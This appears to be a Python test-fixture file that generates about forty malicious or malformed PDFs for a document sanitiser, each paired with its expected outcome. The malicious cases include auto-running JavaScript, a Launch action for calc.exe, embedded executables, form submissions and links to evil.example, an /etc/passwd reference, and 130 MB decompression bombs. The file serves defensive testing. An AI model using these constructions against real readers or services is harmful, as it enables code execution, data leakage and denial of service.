"""Forty PDFs that somebody might send: each with what should come of it.

``CASES`` maps a name to a function that makes the bytes, and to what is said: ""
where the page is bound (without what it brought along), else part of the reason.
"""

import zlib

MARK = b"BT /F1 18 Tf 72 700 Td (Freight bill 4711) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data, more=b"", *, packed=False):
    body = zlib.compress(data) if packed else data
    how = b"/Filter /FlateDecode " if packed else b""
    return b"<< %s%s /Length %d >>\nstream\n%s\nendstream" % (
        how,
        more,
        len(body),
        body,
    )


def written(objects, *, trailer=b"", head=b"%PDF-1.7\n"):
    """Write numbered objects with a table of their places; the first is the root."""
    out, places = bytearray(head), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, most = len(out), max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (most + 1)
    for number in range(1, most + 1):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (most + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF" % start)


def plain(*, root=b"", page=b"", resources=b"", content=MARK, more=None, trailer=b""):
    """Return one page with a line of text, and whatever else is asked for."""
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (resources, page),
            4: stream(content),
            5: FONT,
            **(more or {}),
        },
        trailer=trailer,
    )


def of_tree(kids):
    """Return a document with a tree of pages of one's own, from object 2 on."""
    return written({1: b"<< /Type /Catalog /Pages 2 0 R >>", 5: FONT, **kids})


LEAF = (
    b"<< /Type /Page /MediaBox [0 0 612 792] /Contents 90 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> >>"
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (calc.exe) >>"


def deep_tree(depth):
    kids = {
        number: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
        for number in range(100, 100 + depth)
    }
    return of_tree(
        {
            2: b"<< /Type /Pages /Kids [100 0 R] /Count 1 >>",
            90: stream(MARK),
            **kids,
            100 + depth: LEAF,
        }
    )


def many_pages(count):
    kids = b" ".join(b"%d 0 R" % (100 + number) for number in range(count))
    leaves = dict.fromkeys(range(100, 100 + count), LEAF)
    return of_tree(
        {
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            90: stream(MARK),
            **leaves,
        }
    )


def picture(wide, high, data=b"\0", more=b""):
    facts = (
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray %s" % (wide, high, more)
    )
    return plain(
        resources=b"/XObject << /P 6 0 R >>",
        content=MARK + b" /P Do",
        more={6: stream(data, facts, packed=True)},
    )


def with_form(body, *, deep=None):
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
    return plain(
        resources=b"/XObject << /P 6 0 R >>",
        content=MARK + b" /P Do",
        more={6: stream(b"/P Do", form + body), **(deep or {})},
    )


def chain_of_forms(count):
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
    made = {
        number: stream(
            b"/P Do",
            form + b"/Resources << /XObject << /P %d 0 R >> >>" % (number + 1),
        )
        for number in range(7, 7 + count)
    }
    last = {7 + count: stream(b"", form)}
    return with_form(b"/Resources << /XObject << /P 7 0 R >> >>", deep={**made, **last})


def object_stream_bomb():
    """Return one page that lies in an object stream of 130 MB."""
    inside = b"3 0 " + LEAF.replace(b"90 0 R", b"4 0 R") + b" " * 130_000_000
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        4: stream(MARK),
        5: FONT,
        6: stream(inside, b"/Type /ObjStm /N 1 /First 4", packed=True),
    }
    out, rows = bytearray(b"%PDF-1.7\n"), {0: (0, 0, 65535), 3: (2, 6, 0)}
    for number, body in objects.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows[7] = (1, len(out), 0)
    table = b"".join(
        bytes([kind]) + where.to_bytes(4) + more.to_bytes(2)
        for _, (kind, where, more) in sorted(rows.items())
    )
    facts = b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R"
    start = len(out)
    out += b"7 0 obj\n%s\nendobj\n" % stream(table, facts)
    return bytes(out + b"startxref\n%d\n%%%%EOF" % start)


def appearance(more=b"", look=b"/AP << /N 7 0 R >>"):
    facts = b"/Type /XObject /Subtype /Form /BBox [0 0 100 20] /Resources << /Font << /F1 5 0 R >> >>"
    return plain(
        page=b"/Annots [6 0 R]",
        more={
            6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (sum) /V (12.50) "
            b"/Rect [72 600 172 620] /AA << /K 8 0 R >> %s %s >>" % (look, more),
            7: stream(b"BT /F1 12 Tf 2 4 Td (Paid 12.50) Tj ET", facts),
            8: SCRIPT,
        },
        root=b"/AcroForm << /Fields [6 0 R] >>",
    )


def _script_on_opening():
    return plain(root=b"/OpenAction 6 0 R", more={6: SCRIPT})


CASES = {
    # What a page may bring along, and what is left of it: the page.
    "a script on opening": (_script_on_opening, ""),
    "a program on opening": (
        lambda: plain(root=b"/OpenAction 6 0 R", more={6: LAUNCH}),
        "",
    ),
    "named scripts": (
        lambda: plain(
            root=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more={6: SCRIPT}
        ),
        "",
    ),
    "a script as the page opens": (
        lambda: plain(page=b"/AA << /O 6 0 R /C 6 0 R >>", more={6: SCRIPT}),
        "",
    ),
    "a script as the document closes": (
        lambda: plain(root=b"/AA << /WC 6 0 R >>", more={6: SCRIPT}),
        "",
    ),
    "a file inside": (
        lambda: plain(
            root=b"/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>",
            more={
                6: b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
                7: stream(b"MZ evil", b"/Type /EmbeddedFile"),
            },
        ),
        "",
    ),
    "a file pinned to the page": (
        lambda: plain(
            page=b"/Annots [6 0 R]",
            more={
                6: b"<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
                7: b"<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>",
                8: stream(b"MZ evil"),
            },
        ),
        "",
    ),
    "a link to the web": (
        lambda: plain(
            page=b"/Annots [<< /Subtype /Link /Rect [0 0 612 792] /A << /S /URI "
            b"/URI (http://evil.example/) >> >>]"
        ),
        "",
    ),
    "a link to a file of the network": (
        lambda: plain(
            page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR "
            b"/F (\\\\\\\\evil\\\\share) >> >>]"
        ),
        "",
    ),
    "a form that is sent away": (
        lambda: plain(
            page=b"/Annots [<< /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << "
            b"/S /SubmitForm /F (http://evil.example/) >> >>]"
        ),
        "",
    ),
    "a filled form": (appearance, ""),
    "a hidden field": (lambda: appearance(b"/F 2"), ""),
    "a field whose look has no size": (
        lambda: appearance().replace(b"/BBox [0 0 100 20]", b"/BBox [0 0 000 00]"),
        "",
    ),
    "a film": (
        lambda: plain(
            page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 99 99] "
            b"/RichMediaContent << /Assets 6 0 R >> >>]",
            more={6: stream(b"film")},
        ),
        "",
    ),
    "private data of a program": (
        lambda: plain(
            page=b"/PieceInfo << /X << /Private 6 0 R >> >>", more={6: SCRIPT}
        ),
        "",
    ),
    "data about data": (
        lambda: plain(root=b"/Metadata 6 0 R", more={6: stream(b"<x:xmpmeta>secret")}),
        "",
    ),
    "a bookmark with a script": (
        lambda: plain(
            root=b"/Outlines << /First 6 0 R >>",
            more={6: b"<< /Title (x) /A 7 0 R >>", 7: SCRIPT},
        ),
        "",
    ),
    "a page turned and cropped": (
        lambda: plain(page=b"/Rotate 90 /CropBox [0 600 612 792]"),
        "",
    ),
    "a page that draws itself": (
        lambda: with_form(b"/Resources << /XObject << /P 6 0 R >> >>"),
        "",
    ),
    "a picture with another in its place": (
        lambda: picture(1, 1, more=b"/Alternates [<< /Image 7 0 R >>]"),
        "",
    ),
    "the same page a thousand times in a circle": (
        lambda: of_tree(
            {
                2: b"<< /Type /Pages /Kids [3 0 R 2 0 R 3 0 R] /Count 3 >>",
                3: LEAF,
                90: stream(MARK),
            }
        ),
        "",
    ),
    "two hundred pages": (lambda: many_pages(200), "only its first 60 pages"),
    # What is not bound at all.
    "a form of another program": (
        lambda: plain(
            root=b"/AcroForm << /XFA 6 0 R /Fields [] >>", more={6: stream(b"<xdp/>")}
        ),
        "its own program",
    ),
    "a form that must be drawn by a program": (
        lambda: plain(root=b"/NeedsRendering true"),
        "its own program",
    ),
    "an encrypted one": (
        lambda: plain(
            trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >> "
            b"/ID [<00> <00>]" % (b"00" * 32, b"11" * 32)
        ),
        "locked",
    ),
    "a layer that is switched off": (
        lambda: plain(
            root=b"/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>",
            more={6: b"<< /Type /OCG /Name (x) >>"},
        ),
        "switched off",
    ),
    "content that unpacks to 130 MB": (
        lambda: plain(more={4: stream(b" " * 130_000_000, packed=True)}),
        "far larger",
    ),
    "a picture that unpacks to 130 MB": (
        lambda: picture(9_000, 9_000, b"\0" * 130_000_000),
        "far larger",
    ),
    "a picture of 10,000 million pixels": (lambda: picture(100_000, 100_000), "pixels"),
    "a picture of no width": (lambda: picture(0, 5), "pixels"),
    "a tree 60 levels deep": (lambda: deep_tree(60), "too deep"),
    "ten thousand pages": (lambda: many_pages(10_000), "too long"),
    "forms in forms, a hundred deep": (lambda: chain_of_forms(100), "too deep"),
    "arrays in arrays, ten thousand deep": (
        lambda: plain(
            resources=b"/Pattern << /A " + b"[" * 10_000 + b"]" * 10_000 + b" >>"
        ),
        "damaged",
    ),
    "a page as large as a field": (
        lambda: plain().replace(b"[0 0 612 792]", b"[0 0 90000 90000]"),
        "size",
    ),
    "a part that lies in another file": (
        lambda: with_form(b"/F (/etc/passwd)"),
        "another file",
    ),
    "a program for the printer": (
        lambda: with_form(b"").replace(b"/Subtype /Form", b"/Subtype /PS"),
        "another file",
    ),
    "an unknown packing": (
        lambda: with_form(b"/Filter /Crypt"),
        "packed",
    ),
    "an object stream of 130 MB": (object_stream_bomb, "larger"),
    "cut in half": (lambda: plain(content=MARK * 40)[:300], "damaged"),
    "a name and nothing else": (lambda: b"%PDF-1.7\n%%EOF", "damaged"),
    "no pages": (
        lambda: of_tree({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "no pages",
    ),
    "a million nonsense objects": (
        lambda: b"%PDF-1.7\n" + b"1 0 obj << /A 1 0 R >> endobj\n" * 200_000,
        "damaged",
    ),
}
